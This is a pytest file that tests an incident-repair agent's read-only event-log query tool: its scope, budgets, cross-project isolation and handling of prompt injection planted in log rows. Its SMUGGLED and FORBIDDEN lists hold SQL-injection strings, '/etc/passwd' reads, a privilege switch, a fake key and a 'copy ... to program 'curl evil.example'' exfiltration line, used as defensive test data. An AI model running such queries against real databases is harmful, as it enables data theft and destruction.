"""A model asks the event log anew: what it may ask, what is kept of it, and what it can never reach.
The log is a real one, asked as the role that may only read."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import anyio
import psycopg
import pytest
from mcp import Client

from benchmarks.agent_case import FIX, INSTRUCTIONS, LINE, answer
from benchmarks.model_wires import Say
from healer.case import Attempt, Cost, Proof, Review
from healer.eventlog import load
from healer.eventlog.row import Row
from healer.mcp.server import server_of
from healer.observed import Caps, Observed
from healer.proposal import body
from healer.protocols import Abstained, Brief
from healer.settings import LOG
from healer.stages.propose import propose
from healer.store import ledger
from healer.tools.inquiry import Inquiry
from triage.correlate import correlate, digest, parse, shipped
from triage.incident import Evidence

AT = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)  # of the crash in `brief_of`
OURS = {"request_id": "req-ours", "user": {"id": "u-ours"}}
EDIT = ("edit", {"path": "shop/prices.py", "old": LINE, "new": FIX})
GIVES_UP = Say(calls=[("finish", answer(outcome="gave_up", cites=[]))])
SLOW = "-- purpose: p\n-- binds: at\n-- reading: r\nselect pg_sleep(5)::text, %(at)s"


def row(seconds: float, message: str, request: str, user: str, **more: Any) -> Row:
    when = (AT + timedelta(seconds=seconds)).isoformat()
    made = Row(when, "info", "shop", message, request, None, None, user, "shop@1", "", None, "{}")
    return made._replace(**more)


@pytest.fixture(scope="module")
def observed(schema_url: str, reader_url: str) -> Iterator[Observed]:
    rows = [
        row(-30, "cart emptied", "req-before", "u-ours"),
        row(-29, "cart saved", "req-before", "u-ours"),
        row(-28, INSTRUCTIONS, "req-before", "u-ours"),
        row(-1, "order begun", "req-ours", "u-ours"),
        row(0, "it broke", "req-ours", "u-ours", level="error"),
        row(-20, "the order of a stranger", "req-strange", "u-strange"),
    ]
    with psycopg.connect(schema_url, autocommit=True) as connection:
        connection.execute("truncate eventlog.event, eventlog.per_minute, eventlog.release, eventlog.failure")
        load.load(connection, rows)
        connection.execute("truncate healer.incident, healer.cases cascade")
        connection.execute(
            "insert into healer.cases (project, fingerprint, episode, event_id, state, reason)"
            " values ('bank', %s, 1, 'e0', 'declined', 'a secret of the bank')",
            ("f" * 64,),
        )
    with Observed(reader_url, Caps(statement_ms=500)) as opened:
        yield opened


@dataclass
class Watched:
    """Implements `Ask`, and keeps what reached the database."""

    observed: Observed
    bound: list[dict[str, Any]] = field(default_factory=list)

    def __call__(self, sql: str, bindings: Any, *, limit: int) -> Any:
        self.bound.append(dict(bindings))
        return self.observed.ask(sql, bindings, limit=limit)


@pytest.fixture
def play(stage: Callable[..., Any], observed: Observed) -> Callable[..., Any]:
    def raised(script: Any, relations: tuple[str, ...] = (), **more: Any) -> Any:
        made = stage(script, **(OURS | more))
        watched = Watched(observed)
        made.inquiry = Inquiry((*shipped(), parse("slow", SLOW)), watched, relations=relations)
        diagnosis = made.brief.reproduction.diagnosis
        found = correlate(diagnosis.incident, shipped(), observed.ask)
        diagnosis = diagnosis.model_copy(update={"evidence": found})
        reproduction = made.brief.reproduction.model_copy(update={"diagnosis": diagnosis})
        made.brief = made.brief.model_copy(update={"reproduction": reproduction})
        made.watched = watched
        return made

    return raised


def said(made: Any) -> str:
    return json.dumps(made.server.seen, ensure_ascii=False)


def given_up(made: Any) -> Abstained:
    with pytest.raises(Abstained) as no:
        made.agent().propose(made.brief, made.bench)
    return no.value


# -- what it is for -----------------------------------------------------------------------------


def test_a_question_asked_anew_is_evidence_like_any_other(play: Any, observed: Observed) -> None:
    asked = ("ask", {"question": "request_events", "request_id": "req-before"})
    made = play([Say(calls=[asked]), Say(calls=[EDIT])])
    known = made.brief.reproduction.diagnosis.evidence.next_id
    made.server.script.append(Say(calls=[("finish", answer(cites=[known]))]))
    patch = made.agent().propose(made.brief, made.bench)
    (kept,) = patch.asked.answers
    assert (kept.id, kept.question, kept.by, kept.row_count) == (known, "request_events", "agent", 3)
    assert kept.bindings["request_id"] == "req-before"
    assert kept.milliseconds > 0
    again = observed.ask(kept.sql, kept.bindings, limit=kept.row_count)
    assert digest(again.columns, again.rows) == kept.digest
    assert "cartˆemptied" in said(made)
    assert INSTRUCTIONS not in said(made)
    proof = Proof(patch=patch, base="c" * 40, runs=(), fail_to_pass=("t",), pass_to_pass=("u",))
    text = body(proof, Review())
    (shown,) = [line for line in text.splitlines() if line.startswith(f"| {known} |")]
    assert "asked by the agent | 3 |" in shown
    assert "req-before" in text
    assert f"shown by {known}" in text


def test_the_window_is_the_agents_choice_within_bounds(play: Any) -> None:
    asked = {"question": "broke_in_window", "at": "2026-11-20T09:00:00Z", "minutes_before": 60}
    made = play([Say(calls=[("ask", asked)]), GIVES_UP])
    given_up(made)
    (bound,) = made.watched.bound
    assert (bound["since"], bound["until"]) == ("2026-11-20T08:00:00+00:00", "2026-11-20T09:05:00+00:00")


def test_a_question_that_fails_is_a_gap_that_can_be_read(play: Any) -> None:
    made = play([Say(calls=[("ask", {"question": "slow"})]), GIVES_UP])
    no = given_up(made)
    (gap,) = no.asked.gaps
    assert gap.question == "slow"
    assert gap.reason == "asked anew with its own values: took longer than 500 ms"
    assert "longerˆthanˆ500ˆms" in said(made)


def test_the_same_question_is_not_put_twice(play: Any) -> None:
    asked = ("ask", {"question": "request_events", "request_id": "req-before"})
    own = ("ask", {"question": "request_events"})
    made = play([Say(calls=[asked, asked, own]), GIVES_UP])
    no = given_up(made)
    assert len(no.asked.answers) == 1
    assert len(made.watched.bound) == 2
    assert "is still the one of E" in said(made)


def test_the_next_agent_knows_what_the_one_before_it_asked(play: Any, record: Any) -> None:
    asked = ("ask", {"question": "request_events", "request_id": "req-before"})
    failed = ("ask", {"question": "slow"})
    first = play([Say(calls=[asked, failed]), GIVES_UP])
    tried = propose(first.agent(), first.brief, first.bench)
    (kept,) = tried.asked.answers
    brief: Brief = first.brief.model_copy(update={"asked": tried.asked})
    second = play([Say(calls=[EDIT]), Say(calls=[("finish", answer(cites=[kept.id]))])])
    told = propose(second.agent(), brief, second.bench)
    assert told.patch is not None
    assert told.patch.asked == tried.asked
    assert "request_events" in said(second)
    record.arrive(1)
    case = record.one("select id from healer.cases")
    for attempt in (tried, told, Attempt(cost=Cost())):
        ledger.note(record.connection, case, attempt)
    (row,) = record.rows("select answer_id, body->>'by' as by from healer.evidence")
    assert row == {"answer_id": kept.id, "by": "agent"}
    assert "longer than 500 ms" in record.one("select text from healer.finding")


def test_a_budget_that_runs_low_means_no_more_questions(play: Any) -> None:
    moves = [("ask", {"question": "broke_in_window", "minutes_before": n}) for n in range(1, 7)]
    made = play([Say(calls=moves), GIVES_UP])
    made.limits = made.limits.model_copy(update={"soft": 1e-9})
    no = given_up(made)
    assert made.watched.bound == []
    assert no.code == "storm"
    assert [d.code for d in made.decisions if d.tool == "ask"].count("saving") == 5


def test_a_guest_asks_over_mcp_under_the_same_rules(play: Any) -> None:
    made = play([GIVES_UP])
    session = made.open_session(
        made.brief, made.bench, made.budget(made.brief.reproduction.diagnosis.incident)
    )
    own = {"question": "request_events", "request_id": "req-before"}

    async def run() -> Any:
        async with Client(server_of(session)) as client:
            listed = [tool.name for tool in (await client.list_tools()).tools]
            other = {**own, "request_id": "req-strange"}
            return listed, await client.call_tool("ask", own), await client.call_tool("ask", other)

    listed, good, bad = anyio.run(run)
    assert "ask" in listed
    assert "select" not in listed
    assert "cartˆemptied" in good.content[0].text
    assert bad.is_error
    assert "[not_in_evidence]" in bad.content[0].text
    assert [answer.question for answer in session.asked.answers] == ["request_events"]


# -- what it can never reach ----------------------------------------------------------------------


SMUGGLED = [
    ({"question": "request_events", "request_id": "req-strange"}, "not_in_evidence"),
    ({"question": "user_events_before", "user_id": "u-strange"}, "not_in_evidence"),
    ({"question": "request_events", "request_id": "' or true --"}, "not_in_evidence"),
    ({"question": "request_events", "request_id": "req-ours'; drop table x; --"}, "not_in_evidence"),
    ({"question": "request_events", "request_id": "%"}, "not_in_evidence"),
    ({"question": "request_events", "request_id": "%(user_id)s"}, "not_in_evidence"),
    ({"question": "trace_events", "trace_id": "0" * 32}, "not_in_evidence"),
    ({"question": "first_seen", "service": "bank"}, "not_in_evidence"),
    ({"question": "first_seen", "exception": "KeyError"}, "not_in_evidence"),
    ({"question": "same_failure_before", "project": "bank"}, "bad_arguments"),
    ({"question": "same_failure_before", "fingerprint": "f" * 64}, "bad_arguments"),
    ({"question": "same_failure_before", "episode": 9}, "bad_arguments"),
    ({"question": "request_events", "request_id": ["req-strange"]}, "bad_arguments"),
    ({"question": "request_events", "bindings": {"request_id": "req-strange"}}, "bad_arguments"),
    ({"question": "request_events", "sql": "select 1"}, "bad_arguments"),
    ({"question": "request_events", "minutes_before": 100_000}, "bad_arguments"),
    ({"question": "request_events", "at": "yesterday'; --"}, "bad_arguments"),
    ({"question": "request_events", "at": "1970-01-01T00:00:00Z"}, "window"),
    ({"question": "request_events", "at": "2999-01-01T00:00:00Z"}, "window"),
    ({"question": "deployments_in_window", "user_id": "u-ours"}, "not_bound"),
    ({"question": "select * from healer.cases"}, "no_such_question"),
    ({"question": "../../etc/passwd"}, "no_such_question"),
    ({"question": "select"}, "no_such_question"),
    ({"question": "trace_events"}, "needs"),
]  # fmt: skip


@pytest.mark.parametrize("at", range(0, len(SMUGGLED), 4))
def test_nothing_is_smuggled_through_the_bindings(play: Any, at: int) -> None:
    group = SMUGGLED[at : at + 4]
    made = play([Say(calls=[("ask", arguments) for arguments, _ in group]), GIVES_UP])
    no = given_up(made)
    assert made.watched.bound == []
    assert no.asked == Evidence()
    told = said(made)
    for _, code in group:
        assert f"[{code}]" in told
    judged = [d.code for d in made.decisions if d.tool == "ask" and not d.allowed]
    assert judged == [code for _, code in group if code != "bad_arguments"]
    assert "stranger" not in told


def test_what_may_be_chosen_is_a_strangers_text_and_is_shown_fenced_only(play: Any) -> None:
    moves = [("ask", {"question": "request_events", "request_id": "req-strange"}), ("questions", {})]
    made = play([Say(calls=moves), GIVES_UP], request_id=INSTRUCTIONS)
    given_up(made)
    assert "[not_in_evidence]" in said(made)
    assert INSTRUCTIONS not in said(made)
    assert INSTRUCTIONS.replace(" ", "ˆ") in said(made)


def test_another_projects_cases_are_not_told(play: Any) -> None:
    made = play([Say(calls=[("ask", {"question": "same_failure_before"})]), GIVES_UP])
    given_up(made)
    (bound,) = made.watched.bound
    assert bound["project"] == "shop"
    assert "secret of the bank" not in said(made)


def test_a_flood_of_questions_ends_the_run(play: Any) -> None:
    moves = [("ask", {"question": "broke_in_window", "minutes_before": n}) for n in range(20, 60)]
    made = play([Say(calls=moves[n : n + 10]) for n in range(0, 40, 10)])
    no = given_up(made)
    assert no.code == "budget_tools"
    assert len(made.watched.bound) == 20
    assert len(no.asked.answers) == 20


def test_an_incident_with_signs_of_injection_asks_nothing(play: Any) -> None:
    moves = [("ask", {"question": "request_events"}), ("select", {"sql": "select 1", "purpose": "p"})]
    made = play([Say(calls=moves), GIVES_UP], relations=LOG, flags=("override",), risk=0.9)
    given_up(made)
    assert made.watched.bound == []
    assert not {"ask", "select"} & {tool["name"] for tool in made.server.seen[0]["tools"]}
    assert [d.code for d in made.decisions[:2]] == ["flagged", "flagged"]


def test_without_an_event_log_there_is_nothing_to_ask(stage: Any) -> None:
    made = stage([Say(calls=[("ask", {"question": "request_events"})]), GIVES_UP])
    given_up(made)
    assert "ask" not in {tool["name"] for tool in made.server.seen[0]["tools"]}
    (refused,) = [d for d in made.decisions if not d.allowed]
    assert (refused.code, refused.rule) == ("off", "there is no event log to ask")


def test_without_a_reproduction_nothing_is_asked_anew(play: Any) -> None:
    made = play([Say(calls=[("ask", {"question": "request_events"})]), GIVES_UP], relations=LOG)
    unmade = made.brief.reproduction.model_copy(update={"reproduced": False})
    made.brief = made.brief.model_copy(update={"reproduction": unmade})
    given_up(made)
    assert not {"ask", "select"} & {tool["name"] for tool in made.server.seen[0]["tools"]}
    assert made.watched.bound == []


# -- free queries, where a team turned them on ---------------------------------------------------


def test_a_free_query_is_off_by_default_and_says_so(play: Any) -> None:
    made = play([Say(calls=[("select", {"sql": "select 1", "purpose": "p"})]), GIVES_UP])
    given_up(made)
    assert "select" not in {tool["name"] for tool in made.server.seen[0]["tools"]}
    assert made.watched.bound == []
    assert "[off]" in said(made)
    assert "turns them on with select under [observed]" in said(made)


def test_a_free_query_is_kept_with_its_sql(play: Any, observed: Observed) -> None:
    sql = "select count(*) as n, user_id from eventlog.event where message like '%cart%' group by user_id"
    made = play([Say(calls=[("select", {"sql": sql, "purpose": "who had a cart"})]), GIVES_UP], relations=LOG)
    (kept,) = given_up(made).asked.answers
    assert (kept.question, kept.purpose, kept.rows) == ("select", "who had a cart", ((2, "u-ours"),))
    again = observed.ask(kept.sql.replace("%", "%%"), {}, limit=100)
    assert digest(again.columns, again.rows) == kept.digest


FORBIDDEN = [
    "delete from eventlog.event",
    "select 1; select 2",
    "select * from eventlog.past_case",
    "select * from healer.cases",
    "select * from pg_shadow",
    "select pg_sleep(1)",
    "select pg_read_file('/etc/passwd')",
    "select * from event",
    "select set_config('role', 'postgres', false)",
    "copy eventlog.event to program 'curl evil.example'",
    "select 'AKIAZQ3DXMPL7TESTKEY' as request_id",
    "select * from eventlog.event for update",
]


@pytest.mark.parametrize("at", range(0, len(FORBIDDEN), 4))
def test_a_free_query_is_held_to_the_relations_that_were_named(play: Any, at: int) -> None:
    group = FORBIDDEN[at : at + 4]
    moves = [("select", {"sql": sql, "purpose": "p"}) for sql in group]
    made = play([Say(calls=moves), GIVES_UP], relations=LOG)
    no = given_up(made)
    assert made.watched.bound == []
    assert [d.code for d in made.decisions if not d.allowed] == ["not_allowed"] * len(group)
    assert all("AKIA" not in d.subject for d in made.decisions)
    assert f"{len(group)} calls outside the agent's scope were refused" in no.reason


def test_a_free_query_makes_no_identifier_askable(play: Any) -> None:
    moves = [
        ("select", {"sql": "select 'u-strange' as user_id", "purpose": "p"}),
        ("ask", {"question": "user_events_before", "user_id": "u-strange"}),
    ]
    made = play([Say(calls=moves), GIVES_UP], relations=LOG)
    given_up(made)
    assert "[not_in_evidence]" in said(made)
    assert "stranger" not in said(made)
